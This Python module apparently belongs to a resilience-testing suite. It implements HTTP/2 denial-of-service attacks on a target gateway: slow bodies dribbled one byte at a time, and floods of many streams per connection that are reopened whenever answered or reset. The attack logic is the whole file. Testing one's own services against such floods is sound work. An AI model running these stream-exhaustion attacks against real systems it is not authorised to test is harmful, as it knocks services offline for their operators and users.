"""Attacks by many streams of a few HTTP/2 connections."""

import asyncio
from typing import NamedTuple

from resilience.attacks.attack import Run
from resilience.attacks.bodies import MOST
from resilience.attacks.http2 import Session, request, session

_GAP = 2.0  # seconds between two bytes of a slow body
_PAUSE = 1.0  # seconds until a stream that was answered or refused is opened again
_BODY = 14_000  # bytes that fit into the buffer of the gateway


class StreamPlan(NamedTuple):
    """Connections, streams per connection, bytes of body sent at once, whether more bytes follow, and use of a key."""

    connections: int
    streams: int
    first: int
    dribbles: bool
    key: bool


SLOW = StreamPlan(3, 100, 20_000, dribbles=True, key=True)
HEADS = StreamPlan(100, 100, 0, dribbles=False, key=False)
BODIES = StreamPlan(100, 100, _BODY, dribbles=False, key=False)


async def hold(run: Run, plan: StreamPlan) -> None:
    """Open streams that never end. A stream that is answered or reset is opened again."""

    async def once(index: int) -> None:
        async with session(run.victim) as opened, asyncio.TaskGroup() as group:
            for _ in range(plan.streams):
                group.create_task(_repeat(run, opened, plan, index))

    await run.repeat(plan.connections, once)


async def _repeat(run: Run, opened: Session, plan: StreamPlan, index: int) -> None:
    name, value = run.victim.authorization(index)
    fields = request(*([(name.lower(), value)] if plan.key else []), ("content-length", str(MOST)))
    while not run.over:
        try:
            stream = opened.open(fields)
        except EOFError:
            return
        body = asyncio.create_task(_body(opened, stream, plan))
        try:
            answer = await opened.answer(stream)
        finally:
            body.cancel()
        run.answers[answer] += 1
        await asyncio.sleep(_PAUSE)


async def _body(opened: Session, stream: int, plan: StreamPlan) -> None:
    for _ in range(plan.first // 1000):
        await opened.data(stream, bytes(1000))
    while plan.dribbles:
        await asyncio.sleep(_GAP)
        await opened.data(stream, b"\0")
